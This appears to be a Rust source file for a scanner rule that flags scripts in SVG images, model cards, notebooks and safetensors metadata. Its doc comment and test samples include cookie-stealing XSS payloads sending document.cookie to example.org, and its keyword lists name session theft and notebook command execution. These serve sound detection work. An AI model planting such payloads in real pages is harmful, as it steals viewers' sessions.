use weighhouse_core::Severity;
use weighhouse_formats::format::Format;
use weighhouse_formats::safetensors::SafetensorsFacts;
use weighhouse_formats::text::TextFacts;

use crate::rule::{Context, Rule, quote};

crate::rule! {
    /// A picture, page or document runs code in the program that shows it.
    ///
    /// # What it detects
    ///
    /// Scripts and event handlers in SVG pictures; scripts in pages, cards and notebooks that send something away or make a notebook
    /// run commands; any script in the metadata of tensors. Ordinary scripts of pages and plots are not reported.
    ///
    /// # Why it matters
    ///
    /// Whoever looks at the model's page or opens its notebook runs the script with their own rights: it can send their session away.
    ///
    /// # Example
    ///
    /// `<svg onload="fetch('https://example.org/?c=' + document.cookie)">`
    ///
    /// # What to do
    ///
    /// Do not open the file in a browser or notebook. Remove it; a model does not need it.
    ///
    /// # References
    ///
    /// - <https://cwe.mitre.org/data/definitions/79.html>
    pub(crate) ActiveContent {
        id: "WH-COD-012",
        slug: "active-content",
        since: "0.1.0",
        severity: High,
        confidence: Medium,
        formats: [Safetensors, Xml, Html, Markdown, Notebook],
        cwe: [79],
        owasp: ["LLM03"],
        atlas: [],
    }
}

impl Rule for ActiveContent {
    fn safetensors(&self, facts: &SafetensorsFacts, cx: &mut Context<'_>) {
        for (key, value) in &facts.metadata {
            let text = value.to_ascii_lowercase();
            if text.contains("<script") || text.contains("javascript:") || steals(&text) {
                cx.report(format!("{} holds a script", quote(key))).key(key).evidence(value).emit();
            }
        }
    }

    fn text(&self, facts: &TextFacts, cx: &mut Context<'_>) {
        let Some(node) = cx.node() else { return };
        let is = |format| node.readings.iter().any(|reading| reading.format == format);
        let ending = cx.name().rsplit('.').next().unwrap_or_default().to_ascii_lowercase();
        let (picture, page) =
            (ending == "svg", is(Format::Html) || is(Format::Markdown) || is(Format::Notebook));
        for noted in &facts.noted {
            let text = noted.text.to_ascii_lowercase();
            let (what, severity) = match noted.kind {
                "active content" if picture => ("a picture holds a script", Severity::High),
                "active content" if page && steals(&text) => {
                    ("a script sends the session away, or runs commands", Severity::High)
                }
                "active content" if is(Format::Markdown) && text.contains("<script") => {
                    ("a document holds a script", Severity::Low)
                }
                _ => continue,
            };
            cx.report(what)
                .severity(severity)
                .at(noted.region)
                .line(noted.line)
                .key(noted.kind)
                .evidence(&noted.text)
                .emit();
        }
    }
}

/// Whether a script takes what belongs to the reader somewhere else, or makes a notebook's kernel run commands.
fn steals(text: &str) -> bool {
    const TAKES: &[&str] = &["document.cookie", "localstorage", "sessionstorage"];
    const SENDS: &[&str] = &["fetch(", "xmlhttprequest", "sendbeacon", "new image", ".src", "location"];
    const RUNS: &[&str] = &["os.system", "subprocess", "import os", "!curl", "get_ipython().system"];
    let any = |marks: &[&str]| marks.iter().any(|mark| text.contains(mark));
    any(TAKES) && any(SENDS) || text.contains("kernel.execute") && any(RUNS)
}

crate::samples! {
    ActiveContent,
    bad: {
        "a picture with a script" => [("logo.svg", br#"<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('https://example.org')</script></svg>"#.to_vec())],
        "a card that sends cookies" => [("README.md", b"# Model\n<img src=x onerror=\"fetch('https://example.org/?c='+document.cookie)\">\n".to_vec())],
    },
    ok: {
        "a picture" => [("logo.svg", br#"<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>"#.to_vec())],
        "a page with a plot" => [("plot.html", b"<html><script>Plotly.newPlot('x', [])</script></html>".to_vec())],
    },
}
